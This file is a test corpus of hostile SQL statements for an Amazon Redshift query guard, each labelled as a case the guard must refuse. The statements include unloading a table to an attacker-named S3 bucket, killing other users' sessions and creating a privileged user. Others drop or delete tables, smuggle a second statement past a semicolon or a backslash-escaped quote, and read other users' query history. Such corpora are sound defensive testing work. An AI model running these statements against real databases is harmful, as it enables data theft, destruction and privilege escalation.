-- Hostile SQL corpus for Amazon Redshift, written from the Redshift documentation (no live engine
-- here). Every case must be refused by the SQL guard. Names: table mc_canary, user mc_evil, victim
-- user mc_victim, bucket s3://mc-evil-bucket.

-- case: escaped-ident: quoted pg_terminate_backend on the victim's sessions
SELECT "pg_terminate_backend"(process) FROM stv_sessions WHERE user_name = 'mc_victim'

-- case: escaped-ident: upper-case qualified PG_CANCEL_BACKEND
SELECT PG_CATALOG.PG_CANCEL_BACKEND(pid) FROM stv_recents WHERE user_name = 'mc_victim'

-- case: side-effect: terminate the victim's sessions
SELECT pg_terminate_backend(process) FROM stv_sessions WHERE user_name = 'mc_victim'

-- case: side-effect: set_config removes the statement timeout for the session
SELECT set_config('statement_timeout', '0', false)

-- case: side-effect: CANCEL a running query
CANCEL 123456

-- case: server-files: UNLOAD a table to a bucket
UNLOAD ('SELECT * FROM mc_canary') TO 's3://mc-evil-bucket/unload_' IAM_ROLE 'arn:aws:iam::123456789012:role/mc-evil'

-- case: server-files: COPY from a bucket into the canary
COPY mc_canary FROM 's3://mc-evil-bucket/in.csv' IAM_ROLE 'arn:aws:iam::123456789012:role/mc-evil' CSV

-- case: new-connection: external schema over a PostgreSQL database
CREATE EXTERNAL SCHEMA mc_evil FROM POSTGRES DATABASE 'mc_hostile' URI '127.0.0.1' IAM_ROLE 'arn:aws:iam::123456789012:role/mc-evil' SECRET_ARN 'arn:aws:secretsmanager:us-east-1:123456789012:secret:mc'

-- case: write: DELETE
DELETE FROM mc_canary

-- case: write: SELECT … INTO creates a table
SELECT * INTO mc_evil FROM mc_canary

-- case: write: CREATE USER mc_evil
CREATE USER mc_evil PASSWORD 'Pwned12345' CREATEUSER

-- case: write: GRANT to PUBLIC
GRANT ALL ON mc_canary TO PUBLIC

-- case: write: CALL a procedure
CALL mc_evil_proc()

-- case: multi-statement: SELECT then DELETE
SELECT 1; DELETE FROM mc_canary

-- case: multi-statement: string with a semicolon, then DROP
SELECT 'a;b'; DROP TABLE mc_canary

-- case: lock: LOCK TABLE
LOCK mc_canary

-- case: parser-differential: backslash-escaped quote keeps the string open
SELECT 'it\'s', pg_terminate_backend(process) FROM stv_sessions WHERE user_name = 'mc_victim'

-- case: resource: cross join of system tables
SELECT COUNT(*) FROM stl_scan a CROSS JOIN stl_scan b CROSS JOIN stl_scan c

-- case: catalog-secrets: other users' query text
SELECT userid, querytxt FROM stl_query

-- case: catalog-secrets: statement text from SVL_STATEMENTTEXT
SELECT userid, text FROM svl_statementtext

-- case: catalog-secrets: SYS_QUERY_HISTORY
SELECT user_id, query_text FROM sys_query_history

-- case: catalog-secrets: running queries of every user
SELECT user_name, query FROM stv_recents
